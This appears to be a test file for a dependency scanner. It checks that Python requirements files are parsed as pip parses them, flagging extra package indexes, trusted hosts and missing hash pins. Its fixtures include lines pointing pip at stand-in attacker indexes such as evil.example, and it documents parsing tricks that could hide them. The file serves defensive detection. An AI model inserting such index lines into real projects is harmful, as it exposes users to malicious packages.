import path from 'node:path';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { describe, expect, it } from 'vitest';
import type { Policy } from '../../../src/core/policy.js';
import type { ScanResult } from '../../../src/core/result.js';
import { DEFAULT_POLICY } from '../../../src/trust/policy/default.js';
import { pythonDepsStage } from '../../../src/deps/parsers/python/stage.js';
import { scanWith } from '../../helpers/scan.js';

const CASES = path.resolve(import.meta.dirname, '../../../fixtures/python/cases');

const ids = (r: ScanResult) =>
  r.findings
    .filter((f) => f.ruleId !== 'CPP050')
    .map((f) => `${f.ruleId}@${f.location.path}:${f.location.line ?? 0}`)
    .sort();
const hosts = (r: ScanResult, ruleId: string) =>
  r.findings
    .filter((f) => f.ruleId === ruleId)
    .map((f) => String(f.evidence?.['host']))
    .sort();

// What pip's own `req_file.parse_requirements` (pip 23.2.1, index_urls / find_links / trusted origins of the
// finder it fills) makes of each hand-made file: every index and host below is one pip would use.
const cases = [
  {
    name: 'two options on one line both apply (handle_option_line reads every option)',
    dir: 'pip-two-options-one-line',
    want: [
      'CPP012@requirements.txt:1',
      'CPP070@requirements.txt:1',
      'CPP071@requirements.txt:2',
      'CPP071@requirements.txt:2',
    ],
    hosts: { CPP070: ['evil.example'], CPP071: ['a.example', 'b.example'] },
  },
  {
    name: 'optparse abbreviations: --extra, --trusted=, --find=, --ha= are the full options',
    dir: 'pip-option-abbreviations',
    want: [
      'CPP011@requirements.txt:5',
      'CPP012@requirements.txt:1',
      'CPP070@requirements.txt:1',
      'CPP070@requirements.txt:3',
      'CPP071@requirements.txt:2',
    ],
    hosts: { CPP070: ['evil.example', 'links.example'], CPP071: ['tls-off.example'] },
  },
  {
    name: 'form feed, U+2028 and a lone CR end a line for pip (str.splitlines)',
    dir: 'pip-line-breaks',
    want: [
      'CPP012@requirements.txt:1',
      'CPP070@requirements.txt:1',
      'CPP070@requirements.txt:3',
      'CPP071@requirements.txt:2',
    ],
    hosts: { CPP070: ['cr.example', 'ff.example'], CPP071: ['ls.example'] },
  },
  {
    name: 'a backslash continuation glues the next line on without a space',
    dir: 'pip-continuation-glue',
    want: ['CPP012@requirements.txt:1', 'CPP070@requirements.txt:1'],
    hosts: { CPP070: ['pypi.org.evil.example'] },
  },
  {
    name: 'U+FEFF is no white space to Python: a # after it starts no comment, so the --extra-index-url behind it applies',
    dir: 'pip-bom-not-space',
    want: ['CPP012@requirements.txt:1', 'CPP070@requirements.txt:1'],
    hosts: { CPP070: ['evil.example'] },
  },
  {
    name: 'a clause with white space inside or no PEP 440 version is no requirement (packaging 22+: InvalidRequirement): CPP004',
    dir: 'pip-invalid-specifier',
    // Lines 3 and 6 (`==1.26.*` is a PEP 440 prefix match) are the file's two ranges: one CPP010 for the file.
    want: [
      'CPP004@requirements.txt:1',
      'CPP004@requirements.txt:2',
      'CPP004@requirements.txt:4',
      'CPP010@requirements.txt:3',
    ],
    hosts: {},
  },
  {
    name: 'a --hash in a constraints file turns on hash-checking mode (get_requirements); the requirement needs its own',
    dir: 'pip-constraint-hash-mode',
    want: ['CPP011@all/requirements.txt:2', 'CPP011@one/requirements.txt:2'],
    hosts: {},
  },
  {
    name: "an --extra-index-url in a file both scanned and included is one cause: one finding each, with the includer's count",
    dir: 'pip-included-extra-index',
    want: ['CPP010@requirements-base.txt:3', 'CPP012@requirements-base.txt:1', 'CPP070@requirements-base.txt:1'],
    hosts: { CPP070: ['evil.example'] },
  },
  {
    name: 'a -r inside a constraints file names requirements pip installs (_parse_and_recurse: nested_constraint = False)',
    dir: 'pip-requirement-in-constraints',
    want: ['CPP010@shared.txt:2'],
    hosts: {},
  },
  {
    name: 'decoded as pip decodes (BOM, PEP 263 coding line): UTF-16, UTF-7, latin-1 NEL; an unknown codec, or no UTF-8 and no declaration, is CPP001',
    dir: 'pip-encodings',
    want: [
      'CPP001@undeclared-latin1/requirements.txt:1',
      'CPP001@undecodable/requirements.txt:1',
      'CPP012@latin1-nel/requirements.txt:2',
      'CPP012@utf16-bom/requirements.txt:1',
      'CPP012@utf7-declared/requirements.txt:3',
      'CPP070@latin1-nel/requirements.txt:2',
      'CPP070@utf16-bom/requirements.txt:1',
      'CPP070@utf7-declared/requirements.txt:3',
    ],
    hosts: { CPP070: ['nel.example', 'u16.example', 'u7.example'] },
  },
  {
    name: '--hash values as cmdoptions._handle_merge_hash takes them: SHA256:, md5:, a bare name refuse the file; a URL #md5= counts, #SHA256= does not',
    dir: 'pip-hash-values',
    want: [
      'CPP004@requirements.txt:2',
      'CPP004@requirements.txt:3',
      'CPP004@requirements.txt:4',
      'CPP011@requirements.txt:6',
      'CPP015@requirements.txt:5',
      'CPP015@requirements.txt:6',
      'CPP017@requirements.txt:5',
    ],
    hosts: {},
  },
  {
    name: "a URL's #sha256= does not turn on hash-checking mode (has_hash_options): the other lines install unchecked",
    dir: 'pip-url-hash-only',
    want: ['CPP015@requirements.txt:1'],
    hosts: {},
  },
  {
    name: 'a URL hash alone, under a policy that requires hashes: one CPP011 for the file',
    dir: 'pip-url-hash-only',
    policy: { ...DEFAULT_POLICY, dependencies: { ...DEFAULT_POLICY.dependencies, python: { requireHashes: true } } },
    want: ['CPP011@requirements.txt:2', 'CPP015@requirements.txt:1'],
    hosts: {},
  },
  {
    name: 'in hash-checking mode a --hash pins a line pip takes as pinned (is_pinned: one == / === clause, ==1.* too); other clauses are HashUnpinned',
    dir: 'pip-hash-pinning',
    want: ['CPP010@hashed/requirements.txt:2', 'CPP010@hashed/requirements.txt:4', 'CPP010@plain/requirements.txt:1'],
    hosts: {},
  },
];

describe('requirements files read as pip reads them', () => {
  it.each<(typeof cases)[number] & { policy?: Policy }>(cases)(
    '$name ($dir)',
    async ({ dir, want, hosts: wantHosts, policy }) => {
      const r = await scanWith(path.join(CASES, dir), [pythonDepsStage], policy ? { policy } : {});
      expect(ids(r)).toEqual(want);
      for (const [rule, h] of Object.entries(wantHosts)) expect(hosts(r, rule)).toEqual(h);
    },
  );
});

it('a range beside a --hash says pip refuses it (HashUnpinned), a range in a file without hashes does not', async () => {
  const r = await scanWith(path.join(CASES, 'pip-hash-pinning'), [pythonDepsStage]);
  const said = (file: string) => r.findings.find((f) => f.location.path === file)?.message ?? '';
  expect(said('hashed/requirements.txt')).toMatch(/HashUnpinned/);
  expect(said('plain/requirements.txt')).not.toMatch(/HashUnpinned/);
});

it('the kept finding of a file both scanned and included counts the includer’s requirements too', async () => {
  const r = await scanWith(path.join(CASES, 'pip-included-extra-index'), [pythonDepsStage]);
  expect(r.findings.find((f) => f.ruleId === 'CPP070')?.evidence?.['count']).toBe(3);
});

it('an include walking up (..) out of a symlinked folder opens the file the OS finds there, not the lexical one', async () => {
  // pip opens `os.path.join(dirname, "sub/../c.txt")` as it stands: `sub` → `deep/x`, so `..` is `deep`. A lexical
  // normalisation read the harmless `c.txt` beside requirements.txt and never saw deep/c.txt's extra index.
  const root = await mkdtemp(path.join(tmpdir(), 'cp-pip-include-link-'));
  try {
    await mkdir(path.join(root, 'deep', 'x'), { recursive: true });
    await symlink(path.join('deep', 'x'), path.join(root, 'sub'));
    await writeFile(path.join(root, 'requirements.txt'), '-r sub/../c.txt\n-r gone/../c.txt\n');
    await writeFile(path.join(root, 'c.txt'), 'requests==2.31.0\n');
    await writeFile(
      path.join(root, 'deep', 'c.txt'),
      '--extra-index-url https://evil.example/simple\nrequests==2.31.0\n',
    );
    const r = await scanWith(root, [pythonDepsStage]);
    expect(ids(r)).toEqual(['CPP003@requirements.txt:2', 'CPP012@deep/c.txt:1', 'CPP070@deep/c.txt:1']);
    expect(hosts(r, 'CPP070')).toEqual(['evil.example']);
  } finally {
    await rm(root, { recursive: true, force: true });
  }
});

it.each([
  {
    name: 'an empty first hash (#md5=&sha256=…) leaves the link unhashed: pip refuses it in hash-checking mode',
    url: `https://files.example/w-1.0.tar.gz#md5=&sha256=${'a'.repeat(64)}`,
    want: ['CPP011@requirements.txt:2', 'CPP015@requirements.txt:2'],
  },
  {
    name: "a hash in the URL's query (?a&sha256=…) pins the link as a fragment's does",
    url: `https://files.example/w-1.0.tar.gz?a&sha256=${'a'.repeat(64)}`,
    want: ['CPP015@requirements.txt:2'],
  },
  {
    name: 'the first hash of the URL is the one pip checks, a later one adds nothing',
    url: `https://files.example/w-1.0.tar.gz#sha256=${'a'.repeat(64)}&md5=`,
    want: ['CPP015@requirements.txt:2'],
  },
])('$name (pip LinkHash.find_hash_url_fragment)', async ({ url, want }) => {
  // Checked with pip 24.2 `pip download --require-hashes` against a loopback server: HashMissing for the first URL,
  // the download checked against the query's sha256 for the second.
  const root = await mkdtemp(path.join(tmpdir(), 'cp-pip-link-hash-'));
  try {
    await writeFile(path.join(root, 'requirements.txt'), `six==1.16.0 --hash=sha256:${'b'.repeat(64)}\nw @ ${url}\n`);
    const r = await scanWith(root, [pythonDepsStage]);
    expect(ids(r)).toEqual(want);
  } finally {
    await rm(root, { recursive: true, force: true });
  }
});
